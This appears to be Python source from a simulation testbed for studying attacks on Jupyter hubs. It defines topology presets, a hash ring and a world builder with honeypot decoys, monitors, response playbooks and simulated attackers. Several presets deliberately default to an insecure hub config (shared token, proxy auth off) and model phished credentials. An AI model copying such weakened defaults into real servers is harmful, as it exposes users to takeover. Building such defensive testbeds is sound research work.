- ``sharded-hub-geo``      — the sharded hub with per-link latency
  structure (one shard local, one continental, one intercontinental).
- ``defended-hub`` / ``defended-sharded-hub`` / ``defended-honeypot-hub``
  / ``defended-sharded-hub-geo``
  — the same worlds with a :class:`ResponsePolicy`: an automated
  response controller correlates monitor notices into incidents and
  executes containment playbooks (block / revoke / quarantine /
  intel auto-block).  ``defend(spec)`` wraps any hub spec the same way.
- ``adaptive-hub`` / ``adaptive-sharded-hub`` / ``adaptive-honeypot-hub``
  / ``adaptive-sharded-hub-geo`` — the arms-race worlds: a defended hub
  whose ResponsePolicy has TTL'd containment (quarantine auto-release,
  block expiry, intel TTL) *plus* an :class:`AdversaryPolicy` (a
  source-rotation pool and phished tenant credentials) for the
  strategy-driven attackers ``repro adversary`` runs.  ``versus(spec)``
  arms any hub spec the same way.
- ``padded-hub`` / ``padded-sharded-hub-geo`` /
  ``defended-padded-hub`` / ``defended-padded-sharded-hub-geo`` — the
  traffic-shaping worlds: a :class:`PaddingPolicy` compiles size-bucket
  padding and bounded response jitter into every front door, which is
  what defeats the ``timing-recon`` fingerprinter (``repro traffic``).
  ``pad(spec)`` arms any hub spec the same way.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Callable, Dict, List, Optional, Sequence, Tuple, Union

from repro.adversary.policy import AdversaryPolicy
from repro.hub.users import HubConfig, insecure_hub_config
from repro.monitor import AnalyzerDepth
from repro.server.config import ServerConfig
from repro.soc.playbook import ResponsePolicy
from repro.traffic.padding import PaddingPolicy
from repro.topology.spec import (
    DecoyTenantSpec,
    HostSpec,
    HubSpec,
    LinkSpec,
    MonitorSpec,
    ServerSpec,
    ShardSpec,
    TapSpec,
    WorldSpec,
)


def single_server_spec(
    *,
    config: Optional[ServerConfig] = None,
    depth: AnalyzerDepth = AnalyzerDepth.JUPYTER,
    seed: int = 1337,
    monitor_budget: float = 0.0,
    seed_data: bool = True,
    monitor_has_session_key: bool = False,
) -> WorldSpec:
    """The standard single-server testbed (`build_scenario`'s world)."""
    return WorldSpec(
        name="single-server", seed=seed, seed_data=seed_data,
        monitor=MonitorSpec(depth=depth,
                            budget_events_per_second=monitor_budget,
                            has_session_key=monitor_has_session_key),
        server=ServerSpec(config=config),
    )


def hub_spec(
    *,
    n_tenants: int = 4,
    hub_config: Optional[HubConfig] = None,
    server_config: Optional[ServerConfig] = None,
    depth: AnalyzerDepth = AnalyzerDepth.JUPYTER,
    seed: int = 1337,
    monitor_budget: float = 0.0,
    seed_data: bool = True,
    spawn_all: bool = True,
    tenants_per_node: int = 25,
    tenant_prefix: str = "user",
) -> WorldSpec:
    """The one-front-door multi-tenant hub (`build_hub_scenario`'s world)."""
    return WorldSpec(
        name="hub", seed=seed, seed_data=seed_data,
        monitor=MonitorSpec(depth=depth, budget_events_per_second=monitor_budget),
        hub=HubSpec(n_tenants=n_tenants, hub_config=hub_config,
                    server_config=server_config, tenants_per_node=tenants_per_node,
                    tenant_prefix=tenant_prefix, spawn_all=spawn_all),
    )


def sharded_hub_spec(
    *,
    n_shards: int = 3,
    n_tenants: int = 9,
    hub_config: Optional[HubConfig] = None,
    server_config: Optional[ServerConfig] = None,
    depth: AnalyzerDepth = AnalyzerDepth.JUPYTER,
    seed: int = 1337,
    monitor_budget: float = 0.0,
    seed_data: bool = True,
    spawn_all: bool = True,
    tenants_per_node: int = 25,
    tenant_prefix: str = "user",
) -> WorldSpec:
    """N consistent-hash-routed front doors, one filtered tap + monitor
    per shard, merged fleet monitor view."""
    if n_shards < 1:
        raise ValueError("a sharded hub needs at least one shard")
    shards = tuple(
        ShardSpec(name=f"shard{i}",
                  host=HostSpec(f"hub{i}", f"10.0.0.{2 + i}"),
                  tap=TapSpec(f"shard{i}-tap", only_ips=(f"10.0.0.{2 + i}",)))
        for i in range(n_shards)
    )
    return WorldSpec(
        name="sharded-hub", seed=seed, seed_data=seed_data,
        monitor=MonitorSpec(depth=depth, budget_events_per_second=monitor_budget),
        hub=HubSpec(n_tenants=n_tenants, hub_config=hub_config,
                    server_config=server_config, tenants_per_node=tenants_per_node,
                    tenant_prefix=tenant_prefix, spawn_all=spawn_all,
                    shards=shards),
    )


def honeypot_hub_spec(
    *,
    n_tenants: int = 4,
    decoy_names: Sequence[str] = ("admin", "svc-backup"),
    hub_config: Optional[HubConfig] = None,
    server_config: Optional[ServerConfig] = None,
    depth: AnalyzerDepth = AnalyzerDepth.JUPYTER,
    seed: int = 1337,
    monitor_budget: float = 0.0,
    seed_data: bool = True,
    spawn_all: bool = True,
    tenants_per_node: int = 25,
    tenant_prefix: str = "user",
    harvest_interval: float = 60.0,
) -> WorldSpec:
    """A hub with decoy tenants.  Defaults to the *insecure* hub config
    (shared token, proxy auth off) — the deployment that needs decoys:
    a cross-tenant pivot would otherwise loot the fleet unimpeded, so
    decoy accounts that sort ahead of real tenants absorb and record the
    sweep first.  Decoy names must enumerate before real tenants for the
    burn-first property; the defaults do."""
    if not decoy_names:
        raise ValueError("a honeypot hub needs at least one decoy tenant")
    decoys = tuple(
        DecoyTenantSpec(name=name, host=HostSpec(f"decoy{i}", f"10.0.3.{10 + i}"))
        for i, name in enumerate(decoy_names)
    )
    return WorldSpec(
        name="honeypot-hub", seed=seed, seed_data=seed_data,
        monitor=MonitorSpec(depth=depth, budget_events_per_second=monitor_budget),
        hub=HubSpec(n_tenants=n_tenants,
                    hub_config=hub_config if hub_config is not None
                    else insecure_hub_config(),
                    server_config=server_config, tenants_per_node=tenants_per_node,
                    tenant_prefix=tenant_prefix, spawn_all=spawn_all,
                    decoy_tenants=decoys, harvest_interval=harvest_interval),
    )


def sharded_honeypot_hub_spec(
    *,
    n_shards: int = 3,
    n_tenants: int = 6,
    decoy_names: Sequence[str] = ("admin", "svc-backup"),
    hub_config: Optional[HubConfig] = None,
    depth: AnalyzerDepth = AnalyzerDepth.JUPYTER,
    seed: int = 1337,
    monitor_budget: float = 0.0,
    seed_data: bool = True,
    spawn_all: bool = True,
    tenants_per_node: int = 25,
    tenant_prefix: str = "user",
    harvest_interval: float = 60.0,
) -> WorldSpec:
    """Shards *and* decoy tenants: N front doors with per-shard decoy
    routing — each decoy's static route lives on the shard the consistent
    hash assigns it, so bait sits behind every shard boundary.  Defaults
    to the insecure hub config for the same burn-first reason as
    ``honeypot-hub``."""
    base = sharded_hub_spec(
        n_shards=n_shards, n_tenants=n_tenants,
        hub_config=hub_config if hub_config is not None else insecure_hub_config(),
        depth=depth, seed=seed, monitor_budget=monitor_budget,
        seed_data=seed_data, spawn_all=spawn_all,
        tenants_per_node=tenants_per_node, tenant_prefix=tenant_prefix)
    if not decoy_names:
        raise ValueError("a sharded honeypot hub needs at least one decoy tenant")
    decoys = tuple(
        DecoyTenantSpec(name=name, host=HostSpec(f"decoy{i}", f"10.0.3.{10 + i}"))
        for i, name in enumerate(decoy_names)
    )
    assert base.hub is not None
    return replace(base, name="sharded-honeypot-hub",
                   hub=replace(base.hub, decoy_tenants=decoys,
                               harvest_interval=harvest_interval))


#: The geo latency map: shard0 stays campus-local, shard1 sits a
#: continent away, shard2 across an ocean — for both the benign user
#: population and the attacker (whose staging box is closest to shard2).
GEO_LINKS: Tuple[LinkSpec, ...] = (
    LinkSpec("laptop", "hub0", 0.001),
    LinkSpec("laptop", "hub1", 0.035),
    LinkSpec("laptop", "hub2", 0.085),
    LinkSpec("attacker", "hub0", 0.080),
    LinkSpec("attacker", "hub1", 0.040),
    LinkSpec("attacker", "hub2", 0.004),
)


def sharded_hub_geo_spec(
    *,
    n_tenants: int = 6,
    links: Tuple[LinkSpec, ...] = GEO_LINKS,
    decoy_names: Sequence[str] = (),
    **kwargs,
) -> WorldSpec:
    """The sharded hub with geographic latency structure.  Three shards
    (the ``GEO_LINKS`` map assumes three), per-link latency overrides on
    the client/attacker legs, everything else as ``sharded-hub``.

    ``decoy_names`` adds honeypot tenants on their hash-assigned shards
    (the timing-recon worlds use one): like the honeypot presets, naming
    decoys flips the default hub config to *insecure* — decoys exist for
    deployments where a pivot would otherwise sweep unimpeded, and an
    open hub is also what makes zero-403 timing recon possible."""
    if decoy_names:
        kwargs.setdefault("hub_config", insecure_hub_config())
    base = sharded_hub_spec(n_shards=3, n_tenants=n_tenants, **kwargs)
    if decoy_names:
        decoys = tuple(
            DecoyTenantSpec(name=name, host=HostSpec(f"decoy{i}", f"10.0.3.{10 + i}"))
            for i, name in enumerate(decoy_names)
        )
        assert base.hub is not None
        base = replace(base, hub=replace(base.hub, decoy_tenants=decoys))
    return replace(base, name="sharded-hub-geo", links=tuple(links))


def defend(spec: WorldSpec, policy: Optional[ResponsePolicy] = None) -> WorldSpec:
    """Arm any hub spec with an automated response policy."""
    return replace(spec, name=f"defended-{spec.name}",
                   response=policy or ResponsePolicy())


def _defended_factory(base: Callable[..., WorldSpec]) -> Callable[..., WorldSpec]:
    def factory(*, policy: Optional[ResponsePolicy] = None, **kwargs) -> WorldSpec:
        return defend(base(**kwargs), policy)

    factory.__name__ = f"defended_{base.__name__}"
    factory.__doc__ = (f"``{base.__name__}`` plus a ResponsePolicy: the "
                       f"arms-race variant with an automated defender.")
    return factory


defended_hub_spec = _defended_factory(hub_spec)
defended_sharded_hub_spec = _defended_factory(sharded_hub_spec)
defended_honeypot_hub_spec = _defended_factory(honeypot_hub_spec)
defended_sharded_hub_geo_spec = _defended_factory(sharded_hub_geo_spec)


def pad(spec: WorldSpec, policy: Optional[PaddingPolicy] = None) -> WorldSpec:
    """Arm any hub spec with the traffic-analysis countermeasure:
    size-bucket padding + bounded response jitter at every front door."""
    return replace(spec, name=f"padded-{spec.name}",
                   padding=policy or PaddingPolicy())


def padded_hub_spec(*, padding: Optional[PaddingPolicy] = None,
                    **kwargs) -> WorldSpec:
    """``hub`` plus a PaddingPolicy — the shaped-but-unsharded world the
    throughput-overhead benchmark compares against plain ``hub``."""
    return pad(hub_spec(**kwargs), padding)


def padded_sharded_hub_geo_spec(
        *, padding: Optional[PaddingPolicy] = None,
        decoy_names: Sequence[str] = ("admin",), **kwargs) -> WorldSpec:
    """``sharded-hub-geo`` with a decoy tenant *and* traffic shaping —
    the world where timing recon degrades to near-chance.  The decoy
    (and the insecure hub config it implies) is on by default so the
    padded and unpadded geo worlds differ by exactly the countermeasure."""
    return pad(sharded_hub_geo_spec(decoy_names=decoy_names, **kwargs), padding)


defended_padded_hub_spec = _defended_factory(padded_hub_spec)
defended_padded_sharded_hub_geo_spec = _defended_factory(padded_sharded_hub_geo_spec)


#: The response posture of the ``adaptive-*`` presets: the same default
#: rules, but containment *expires* — quiet quarantines auto-release,
#: incident blocks lapse after a quiet TTL, and intel indicators age
#: out.  That is what turns a defended world into a two-player game: a
#: rotating or patient attacker has something to wait for, and the
#: defender's released/re-contained counters have something to count.
ADAPTIVE_RESPONSE = ResponsePolicy(
    quarantine_release_after=60.0,
    block_ttl=90.0,
    intel_ttl=120.0,
)


def versus(spec: WorldSpec, adversary: Optional[AdversaryPolicy] = None,
           response: Optional[ResponsePolicy] = None) -> WorldSpec:
    """Arm any hub spec for the arms race: a ResponsePolicy with
    un-containment enabled on one side, an AdversaryPolicy on the other.
    An explicit ``response`` always wins; otherwise an already-defended
    spec keeps its own policy and an undefended one gets
    ``ADAPTIVE_RESPONSE``."""
    if response is not None:
        armed = replace(spec, response=response)
    elif spec.defended:
        armed = spec
    else:
        armed = replace(spec, response=ADAPTIVE_RESPONSE)
    return replace(armed, name=f"adaptive-{spec.name}",
                   adversary=adversary or AdversaryPolicy())


def _adaptive_factory(base: Callable[..., WorldSpec], *,
                      insecure_default: bool = True) -> Callable[..., WorldSpec]:
    def factory(*, adversary: Optional[AdversaryPolicy] = None,
                response: Optional[ResponsePolicy] = None,
                renotify_interval: float = 45.0,
                **kwargs) -> WorldSpec:
        if insecure_default:
            kwargs.setdefault("hub_config", insecure_hub_config())
        spec = versus(base(**kwargs), adversary, response)
        # Containment expires in these worlds, so detectors must
        # re-alert fast enough for a returning source to be re-contained.
        return replace(spec, monitor=replace(
            spec.monitor, renotify_interval=renotify_interval))

    factory.__name__ = f"adaptive_{base.__name__}"
    factory.__doc__ = (f"``{base.__name__}`` armed for the arms race: a "
                       f"ResponsePolicy with TTL'd containment plus an "
                       f"AdversaryPolicy (source pool, phished accounts).")
    return factory


#: Honeypot presets already default to the insecure hub config.
adaptive_hub_spec = _adaptive_factory(hub_spec)
adaptive_sharded_hub_spec = _adaptive_factory(sharded_hub_spec)
adaptive_honeypot_hub_spec = _adaptive_factory(honeypot_hub_spec,
                                               insecure_default=False)
adaptive_sharded_hub_geo_spec = _adaptive_factory(sharded_hub_geo_spec)


#: name -> spec factory.  ``repro topology`` and the CI smoke job iterate this.
PRESETS: Dict[str, Callable[..., WorldSpec]] = {
    "single-server": single_server_spec,
    "hub": hub_spec,
    "sharded-hub": sharded_hub_spec,
    "honeypot-hub": honeypot_hub_spec,
    "sharded-honeypot-hub": sharded_honeypot_hub_spec,
    "sharded-hub-geo": sharded_hub_geo_spec,
    "defended-hub": defended_hub_spec,
    "defended-sharded-hub": defended_sharded_hub_spec,
    "defended-honeypot-hub": defended_honeypot_hub_spec,
    "defended-sharded-hub-geo": defended_sharded_hub_geo_spec,
    "adaptive-hub": adaptive_hub_spec,
    "adaptive-sharded-hub": adaptive_sharded_hub_spec,
    "adaptive-honeypot-hub": adaptive_honeypot_hub_spec,
    "adaptive-sharded-hub-geo": adaptive_sharded_hub_geo_spec,
    "padded-hub": padded_hub_spec,
    "padded-sharded-hub-geo": padded_sharded_hub_geo_spec,
    "defended-padded-hub": defended_padded_hub_spec,
    "defended-padded-sharded-hub-geo": defended_padded_sharded_hub_geo_spec,
}


def register_preset(name: str, factory: Callable[..., WorldSpec]) -> None:
    """Register a new named topology (experiments, downstream users)."""
    if name in PRESETS:
        raise ValueError(f"preset {name!r} already registered")
    PRESETS[name] = factory


def list_presets() -> List[str]:
    return sorted(PRESETS)


def spec_preset(name: str, **overrides) -> WorldSpec:
    """Instantiate a registered preset with factory-kwarg overrides."""
    factory = PRESETS.get(name)
    if factory is None:
        raise KeyError(f"unknown topology preset {name!r} "
                       f"(registered: {', '.join(list_presets())})")
    return factory(**overrides)


def resolve_spec(spec: Union[str, WorldSpec], **overrides) -> WorldSpec:
    """Accept either a preset name or an already-built spec."""
    if isinstance(spec, WorldSpec):
        return spec
    return spec_preset(spec, **overrides)
