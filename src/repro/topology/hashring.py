"""Consistent-hash ring for front-door shard assignment.

The SDSC Satellite design (PAPERS.md) routes each user to one of many
reverse-proxy front doors; a consistent hash keeps that assignment
stable as shards join or leave — a user's bookmarked front door keeps
working when the fleet is rescaled, and only ~1/N of users move when a
shard is added.

Deterministic by construction (BLAKE2b, no process-salted ``hash()``),
so scenario traffic stays byte-reproducible across runs.
"""

from __future__ import annotations

import bisect
import hashlib
from typing import Dict, List, Sequence


def _point(key: str) -> int:
    return int.from_bytes(hashlib.blake2b(key.encode(), digest_size=8).digest(), "big")


class ConsistentHashRing:
    """Maps keys (usernames) to nodes (shard names) on a hash ring."""

    def __init__(self, nodes: Sequence[str], *, replicas: int = 64):
        if not nodes:
            raise ValueError("hash ring needs at least one node")
        if replicas < 1:
            raise ValueError("replicas must be >= 1")
        self.replicas = replicas
        self._ring: Dict[int, str] = {}
        self._points: List[int] = []
        for node in nodes:
            self.add(node)

    def add(self, node: str) -> None:
        for r in range(self.replicas):
            point = _point(f"{node}#{r}")
            if point not in self._ring:  # extreme-rarity collision: first wins
                self._ring[point] = node
                bisect.insort(self._points, point)

    def remove(self, node: str) -> None:
        for point in [p for p, n in self._ring.items() if n == node]:
            del self._ring[point]
            self._points.remove(point)

    def node_for(self, key: str) -> str:
        idx = bisect.bisect(self._points, _point(key)) % len(self._points)
        return self._ring[self._points[idx]]

    def nodes(self) -> List[str]:
        return sorted(set(self._ring.values()))
