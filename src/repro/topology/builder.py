"""Compile a :class:`~repro.topology.spec.WorldSpec` into a wired world.

One builder, every topology.  The compile order is deliberately frozen —
host creation order, RNG child streams, spawn order — so that a spec
compiles to the byte-identical world the hand-wired builders used to
produce: same seed, same spec → same segment timeline, which keeps every
benchmark and dataset reproducible across the refactor.
"""

from __future__ import annotations

from dataclasses import replace
from typing import Dict, List, Optional

from repro.monitor import JupyterNetworkMonitor
from repro.server import JupyterServer, ServerConfig, ServerGateway
from repro.simnet import Host, Network
from repro.telemetry import Telemetry
from repro.topology.fleet import (
    FleetMonitorView,
    HoneypotHubScenario,
    HubShard,
    ShardedHoneypotHubScenario,
    ShardedHubScenario,
)
from repro.topology.hashring import ConsistentHashRing
from repro.topology.spec import WorldSpec
from repro.util.rng import DeterministicRNG


class WorldBuilder:
    """Compiles specs.  Stateless; one instance can build many worlds."""

    def build(self, spec: WorldSpec, *, seed: Optional[int] = None,
              monitor_budget: Optional[float] = None,
              seed_data: Optional[bool] = None):
        """Build the world ``spec`` describes.

        ``seed``/``monitor_budget``/``seed_data`` override the spec's
        values without mutating it (the campaign runner builds a fresh
        world per campaign from one shared spec, varying only the seed).
        """
        overrides: Dict[str, object] = {}
        if seed is not None:
            overrides["seed"] = seed
        if seed_data is not None:
            overrides["seed_data"] = seed_data
        if monitor_budget is not None:
            overrides["monitor"] = replace(
                spec.monitor, budget_events_per_second=monitor_budget)
        if overrides:
            spec = replace(spec, **overrides)
        if spec.server is not None:
            return self._build_single(spec)
        return self._build_hub(spec)

    # -- shared pieces --------------------------------------------------------
    def _telemetry(self, spec: WorldSpec) -> Telemetry:
        """One shared measurement plane per build (registry + tracer +
        timeline); every subsystem below receives this same instance."""
        ts = spec.telemetry
        if not ts.enabled:
            return Telemetry.disabled()
        return Telemetry(enabled=True, span_capacity=ts.span_capacity,
                         timeline_capacity=ts.timeline_capacity,
                         profile=ts.profile)

    def _tune_monitor(self, spec: WorldSpec, monitor: JupyterNetworkMonitor) -> None:
        """Apply the spec's scale-model detector calibration (DESIGN.md)."""
        ms = spec.monitor
        monitor.egress.threshold_bytes = ms.egress_threshold_bytes
        monitor.cusum.baseline = ms.cusum_baseline
        monitor.cusum.slack = ms.cusum_slack
        monitor.cusum.h = ms.cusum_h
        for detector in monitor.detectors:
            detector.renotify_interval = ms.renotify_interval

    def _build_sinks(self, spec: WorldSpec, hosts: Dict[str, Host]):
        from repro.attacks.scenario import SinkServer

        return {s.key: SinkServer(hosts[s.key], s.port, reply=s.reply)
                for s in spec.sinks}

    def _apply_links(self, spec: WorldSpec, net: Network) -> None:
        """Install the spec's per-link latency overrides.  Called once
        every host exists, so geo specs can shape any pair."""
        for link in spec.links:
            a, b = net.hosts.get(link.a), net.hosts.get(link.b)
            if a is None or b is None:
                missing = link.a if a is None else link.b
                raise ValueError(
                    f"spec {spec.name!r}: link {link.a}<->{link.b} names "
                    f"unknown host {missing!r} (hosts: {sorted(net.hosts)})")
            net.set_latency(a, b, link.latency)

    def _attach_adversary(self, spec: WorldSpec, scenario, net: Network,
                          users) -> None:
        """Provision the spec's AdversaryPolicy: a rotation pool of
        attacker source hosts (203.0.113.100+) and the tenant
        credentials the attacker starts with (the first
        ``compromised_accounts`` tenants, modeling phished users)."""
        policy = spec.adversary
        if policy is None:
            return
        scenario.adversary_policy = policy
        scenario.adversary_pool = [
            net.add_host(f"attacker-pool{i}", f"203.0.113.{100 + i}")
            for i in range(policy.source_pool_size)
        ]
        # Real tenants only (never decoys): the first k, modeling the
        # accounts a phishing run would plausibly have netted.
        names = list(scenario.tenant_names)[: policy.compromised_accounts]
        scenario.compromised_accounts = [
            (name, users.users[name].token) for name in names]

    def _attach_response(self, spec: WorldSpec, scenario, *, proxies,
                         users, spawner) -> None:
        """Compile the spec's ResponsePolicy into a live controller."""
        policy = spec.response
        if policy is None or not policy.enabled:
            return
        from repro.soc.controller import ResponseController

        controller = ResponseController(
            loop=scenario.network.loop, monitor=scenario.monitor,
            proxies=proxies, users=users, spawner=spawner, policy=policy,
            internal_prefix=getattr(scenario.monitor, "internal_prefix", "10."),
            telemetry=getattr(scenario, "telemetry", None))
        fleet = getattr(scenario, "fleet", None)
        if fleet is not None:
            controller.adopt_fleet(fleet)
        scenario.soc = controller
        # SLOs: evaluated inside the controller's poll, feeding SLO_BURN
        # notices back through the correlator.  A pure telemetry
        # consumer — it reads the registry and the incident list, never
        # the RNG or id streams.
        if spec.slos:
            from repro.telemetry.slo import SloEvaluator

            telemetry = getattr(scenario, "telemetry", None)
            evaluator = SloEvaluator(spec.slos, telemetry.registry)
            evaluator.attach_incidents(
                lambda: list(controller.correlator.incidents.values()))
            controller.slo = evaluator
            scenario.slo = evaluator

    # -- single server --------------------------------------------------------
    def _build_single(self, spec: WorldSpec):
        from repro.attacks.scenario import Scenario

        assert spec.server is not None
        rng = DeterministicRNG(spec.seed)
        net = Network(default_latency=spec.default_latency)
        server_host = net.add_host(spec.server.host.name, spec.server.host.ip)
        user_host = net.add_host(spec.user_host.name, spec.user_host.ip)
        attacker_host = net.add_host(spec.attacker_host.name, spec.attacker_host.ip)
        sink_hosts = {s.key: net.add_host(s.host.name, s.host.ip) for s in spec.sinks}
        tap = net.add_tap(spec.server.tap.name,
                          only_ips=spec.server.tap.only_ips or None)

        telemetry = self._telemetry(spec)
        cfg = spec.server.config or ServerConfig(ip="0.0.0.0", token="unit-test-token")
        server = JupyterServer(cfg, net, server_host)
        gateway = ServerGateway(server)
        monitor = JupyterNetworkMonitor(
            depth=spec.monitor.depth,
            budget_events_per_second=spec.monitor.budget_events_per_second,
            session_key=cfg.session_key if spec.monitor.has_session_key else b"",
            telemetry=telemetry, name=spec.server.tap.name,
        )
        self._tune_monitor(spec, monitor)
        monitor.attach(tap)

        sinks = self._build_sinks(spec, sink_hosts)
        scenario = Scenario(
            network=net, server=server, gateway=gateway, monitor=monitor, tap=tap,
            server_host=server_host, user_host=user_host, attacker_host=attacker_host,
            exfil_sink=sinks["exfil_sink"], mining_pool=sinks["mining_pool"],
            token=cfg.token, rng=rng, sinks=sinks, spec=spec,
            telemetry=telemetry,
        )
        self._apply_links(spec, net)
        if spec.seed_data:
            scenario.seed_research_data()
        return scenario

    # -- hubs (plain, sharded, honeypot-tenant) -------------------------------
    def _build_hub(self, spec: WorldSpec):
        from repro.hub.culler import IdleCuller
        from repro.hub.scenario import DEFAULT_TENANTS_PER_NODE, HubScenario
        from repro.hub.spawner import Spawner
        from repro.hub.users import HubConfig, HubUserDirectory
        from repro.hub.proxy import ReverseProxy

        hub = spec.hub
        assert hub is not None

        rng = DeterministicRNG(spec.seed)
        net = Network(default_latency=spec.default_latency)

        # Front doors.  Plain hub: one proxy host + one see-all tap.
        # Sharded: one host + one filtered tap per shard.
        shard_specs = list(hub.shards)
        if shard_specs:
            shard_hosts = [net.add_host(s.host.name, s.host.ip) for s in shard_specs]
        else:
            shard_hosts = [net.add_host(hub.proxy_host.name, hub.proxy_host.ip)]

        tenants_per_node = hub.tenants_per_node or DEFAULT_TENANTS_PER_NODE
        n_nodes = max(1, -(-hub.n_tenants // tenants_per_node))
        nodes = [net.add_host(f"node{i:02d}", f"10.0.1.{10 + i}") for i in range(n_nodes)]
        user_host = net.add_host(spec.user_host.name, spec.user_host.ip)
        attacker_host = net.add_host(spec.attacker_host.name, spec.attacker_host.ip)
        sink_hosts = {s.key: net.add_host(s.host.name, s.host.ip) for s in spec.sinks}
        if shard_specs:
            taps = [net.add_tap(s.tap.name, only_ips=s.tap.only_ips or None)
                    for s in shard_specs]
        else:
            taps = [net.add_tap(hub.tap.name, only_ips=hub.tap.only_ips or None)]

        hub_cfg = hub.hub_config or HubConfig(
            api_token="hub-admin-token", max_servers=max(hub.n_tenants + 8, 64))
        base_cfg = hub.server_config or ServerConfig(ip="0.0.0.0", token="")

        telemetry = self._telemetry(spec)
        users = HubUserDirectory(hub_cfg, net.loop.clock, rng=rng.child("hub-tokens"))
        spawner = Spawner(net, nodes, base_cfg, hub_cfg, telemetry=telemetry)
        # The padding RNG children exist only in padded worlds, so an
        # unpadded spec's RNG stream — and therefore its whole segment
        # timeline — is bit-identical to pre-padding builds.
        proxies = [ReverseProxy(net, host, users, hub_cfg, spawner=spawner,
                                telemetry=telemetry, padding=spec.padding,
                                rng=(rng.child(f"padding:{host.name}")
                                     if spec.padding is not None else None))
                   for host in shard_hosts]
        for proxy in proxies:
            spawner.on_spawn.append(lambda s, p=proxy: p.add_route(s))
            spawner.on_stop.append(lambda name, p=proxy: p.remove_route(name))

        def _sync_backend_token(name: str, token: str) -> None:
            spawned = spawner.active.get(name)
            if spawned is not None:
                spawned.server.config.token = token

        users.on_revoke.append(_sync_backend_token)
        culler = IdleCuller(net.loop, spawner, proxies[0],
                            interval=hub_cfg.cull_interval,
                            idle_timeout=hub_cfg.cull_idle_timeout,
                            enabled=hub_cfg.culling_enabled,
                            proxies=proxies, telemetry=telemetry)

        infrastructure = {h.ip for h in shard_hosts}
        monitors = []
        for tap in taps:
            monitor = JupyterNetworkMonitor(
                depth=spec.monitor.depth,
                budget_events_per_second=spec.monitor.budget_events_per_second,
                infrastructure_ips=set(infrastructure),
                telemetry=telemetry, name=tap.name)
            self._tune_monitor(spec, monitor)
            monitor.attach(tap)
            monitors.append(monitor)

        sinks = self._build_sinks(spec, sink_hosts)

        names = [f"{hub.tenant_prefix}{i:02d}" for i in range(hub.n_tenants)]
        for name in names:
            user = users.create(name)
            if hub.spawn_all:
                spawner.spawn(user)
        if not hub.spawn_all and names:
            spawner.spawn(users.users[names[0]])  # the default tenant always runs

        default = spawner.active[names[0]]
        common = dict(
            network=net, server=default.server, gateway=default.gateway,
            tap=taps[0],
            server_host=shard_hosts[0], user_host=user_host,
            attacker_host=attacker_host,
            exfil_sink=sinks["exfil_sink"], mining_pool=sinks["mining_pool"],
            token=users.users[names[0]].token, rng=rng, sinks=sinks, spec=spec,
            proxy=proxies[0], spawner=spawner, culler=culler,
            hub=users, hub_config=hub_cfg, tenant_names=list(names),
            telemetry=telemetry,
        )

        ring = (ConsistentHashRing([s.name for s in shard_specs])
                if shard_specs else None)
        decoy_parts: Optional[Dict] = None
        if hub.decoy_tenants:
            # Per-shard decoy routing: a decoy tenant's static route is
            # installed on the same consistent-hash-assigned front door
            # a real tenant of that name would use; a plain hub has only
            # the one proxy.
            shard_index = {s.name: i for i, s in enumerate(shard_specs)}

            def proxy_for(decoy_name: str):
                if ring is None:
                    return proxies[0]
                return proxies[shard_index[ring.node_for(decoy_name)]]

            decoy_parts = self._build_decoy_tenants(spec, net, users, proxy_for)

        if shard_specs:
            shards = [HubShard(name=s.name, host=h, proxy=p, tap=t, monitor=m)
                      for s, h, p, t, m in zip(shard_specs, shard_hosts,
                                               proxies, taps, monitors)]
            fleet_view = FleetMonitorView(monitors, telemetry=telemetry)
            if decoy_parts is not None:
                scenario: HubScenario = ShardedHoneypotHubScenario(
                    monitor=fleet_view, shards=shards, ring=ring,
                    **decoy_parts, **common)
            else:
                scenario = ShardedHubScenario(
                    monitor=fleet_view, shards=shards, ring=ring, **common)
        elif decoy_parts is not None:
            scenario = HoneypotHubScenario(monitor=monitors[0],
                                           **decoy_parts, **common)
        else:
            scenario = HubScenario(monitor=monitors[0], **common)

        self._apply_links(spec, net)
        self._attach_response(spec, scenario, proxies=proxies, users=users,
                              spawner=spawner)
        self._attach_adversary(spec, scenario, net, users)
        if spec.seed_data:
            scenario.seed_research_data()
        return scenario

    def _build_decoy_tenants(self, spec: WorldSpec, net: Network, users,
                             proxy_for) -> Dict:
        """Stand up decoy tenants; ``proxy_for(name)`` selects the front
        door that should carry each decoy's static route."""
        from repro.honeypot.decoy import DecoyJupyterServer
        from repro.honeypot.fleet import HoneypotFleet

        hub = spec.hub
        assert hub is not None
        fleet = HoneypotFleet(net, harvest_interval=hub.harvest_interval)
        decoys: List[DecoyJupyterServer] = []
        decoy_names: List[str] = []
        for d in hub.decoy_tenants:
            host = net.add_host(d.host.name, d.host.ip)
            decoy = DecoyJupyterServer(net, host, name=f"decoy-{d.name}",
                                       interaction=d.interaction)
            fleet.adopt(decoy)
            users.create(d.name)
            proxy = proxy_for(d.name)
            proxy.add_static_route(d.name, host, decoy.config.port)
            if d.service_latency > 0:
                # The decoy's service-time signature: honeypot
                # instrumentation is slower than a stock backend, so its
                # proxy leg carries extra latency — the side channel
                # spec'd on DecoyTenantSpec.service_latency.
                net.set_latency(proxy.host, host,
                                spec.default_latency + d.service_latency)
            decoys.append(decoy)
            decoy_names.append(d.name)
        return {"fleet": fleet, "decoys": decoys,
                "decoy_tenant_names": decoy_names}
