"""Declarative world descriptions: what a testbed *is*, not how to wire it.

A :class:`WorldSpec` is a plain-data description of one experiment
topology — hosts, taps, servers, hub shards, honeypot decoys, attacker
sinks, and monitor placement.  Nothing in this module touches the
simnet; :class:`~repro.topology.builder.WorldBuilder` compiles a spec
into the live, fully wired world.

Every scenario in the repo — the single open server, the multi-tenant
hub, the consistent-hash-sharded hub, the honeypot-tenant hub — is one
of these specs.  Adding a topology means writing ~20 lines of spec, not
a new wiring module.
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Optional, Tuple

from repro.adversary.policy import AdversaryPolicy
from repro.hub.users import HubConfig
from repro.monitor import AnalyzerDepth
from repro.server.config import ServerConfig
from repro.soc.playbook import ResponsePolicy
from repro.telemetry.slo import SloSpec
from repro.traffic.padding import PaddingPolicy


@dataclass(frozen=True)
class HostSpec:
    """One addressable endpoint in the world."""

    name: str
    ip: str


@dataclass(frozen=True)
class LinkSpec:
    """A per-link latency override between two named hosts.

    Geo-distributed topologies (a shard per region) are just latency
    structure: hosts keep the default campus latency except where a link
    entry says otherwise.  Host names may be any host the builder
    creates — spec'd hosts, fleet nodes (``node00``...), or sink hosts.
    """

    a: str
    b: str
    latency: float


@dataclass(frozen=True)
class TapSpec:
    """A passive observation point.

